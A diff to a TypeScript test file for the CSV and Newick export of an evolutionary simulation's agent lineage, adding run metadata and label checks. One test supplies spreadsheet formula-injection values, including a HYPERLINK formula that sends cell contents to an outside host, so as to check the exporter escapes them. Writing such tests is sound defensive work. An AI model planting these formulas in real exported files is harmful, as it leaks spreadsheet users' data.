@@ -11,7 +11,8 @@ const run = await simulateRun(40, {
   config: { ...CONFIG, target: { ...CONFIG.target, enabled: false } },
 });
 const lives = livesOf(run);
-const csv = alifeCsv(lives, NAMES);
+const RUN = { seed: 42, settings: '#/evolve?p=cartpole-dqn&s=42&v=1' };
+const csv = alifeCsv(lives, NAMES, RUN);
 
 test('ALife CSV and Newick hold the same tree, which is the run’s', () => {
   const tree = readAlife(csv);
@@ -33,7 +34,7 @@ test('a row says how long an agent lived, how fit it was and what was changed', 
       const lived = run.generations.filter((event) => event.ids.includes(id));
       const last = lived.at(-1)?.generation ?? -1;
       expect(Number(row?.['origin_time'])).toBe(lived[0]?.generation);
-      expect(row?.['destruction_time']).toBe(last === 39 ? 'none' : String(last + 1));
+      expect(row?.['destruction_time']).toBe(last === 39 ? 'inf' : String(last + 1));
       expect(Number(row?.['evaluations'])).toBe(lived.length);
       if (last !== generation) return;
       const expected = fitness[slot] ?? Number.NaN;
@@ -57,10 +58,46 @@ test('text with commas and quotes stays one field', () => {
   if (!life) return expect.unreachable();
   const method = 'a, "b"\r\nc';
   const odd = { ...life, birth: { ...life.birth, mutation: { ...life.birth.mutation, method } } };
-  expect(readCsv(alifeCsv([odd], NAMES))[0]?.['method']).toBe(method);
+  expect(readCsv(alifeCsv([odd], NAMES, RUN))[0]?.['method']).toBe(method);
+});
+
+test('who lives at the end is told from who has died without children', () => {
+  const living = readCsv(csv).filter((row) => row['destruction_time'] === 'inf');
+  const last = [...(run.generations.at(-1)?.ids ?? [])];
+  expect(living.map((row) => Number(row['id']))).toEqual(last.sort((a, b) => a - b));
+  // A byte order mark would become part of the first name.
+  expect(csv).toMatch(/^id,ancestor_list,origin_time,destruction_time,taxon_label,/);
+});
+
+test('every agent has the same name in both files, and none is a bare number', () => {
+  const names = newick(lives).match(/[^(),:;\s]+(?=[:,);])(?<!:[^(),:;\s]+)/g) ?? [];
+  const labels = readCsv(csv).map((row) => row['taxon_label'] ?? '');
+  expect(new Set(names)).toEqual(new Set(labels));
+  expect(labels.filter((label) => !/^agent\d+$/.test(label))).toEqual([]);
+});
+
+test('seed and settings of the run stand in every row', () => {
+  for (const row of readCsv(csv)) expect(row).toMatchObject({ seed: '42', settings: RUN.settings });
+});
+
+test('no text that came with a file is a formula', () => {
+  const [life] = lives;
+  if (!life) return expect.unreachable();
+  const mutation = {
+    ...life.birth.mutation,
+    method: '=HYPERLINK("http://example.org/?"&A1,"open")',
+    changes: [
+      { path: '=1+1', from: null, to: 3 },
+      { path: '=2+2', from: null, to: '@SUM(A1)' },
+    ],
+  };
+  const [row] = readCsv(alifeCsv([{ ...life, birth: { ...life.birth, mutation } }], NAMES, RUN));
+  expect(row?.['method']).toBe(`'${mutation.method}`);
+  // Where a semicolon separates cells, the second change begins one.
+  expect(row?.['changes']).toBe("'=1+1: none -> 3;' =2+2: none -> @SUM(A1)");
 });
 
 test('nobody evaluated gives a table without rows and no tree', () => {
-  expect(readCsv(alifeCsv([], NAMES))).toEqual([]);
+  expect(readCsv(alifeCsv([], NAMES, RUN))).toEqual([]);
   expect(newick([])).toBe('');
 });
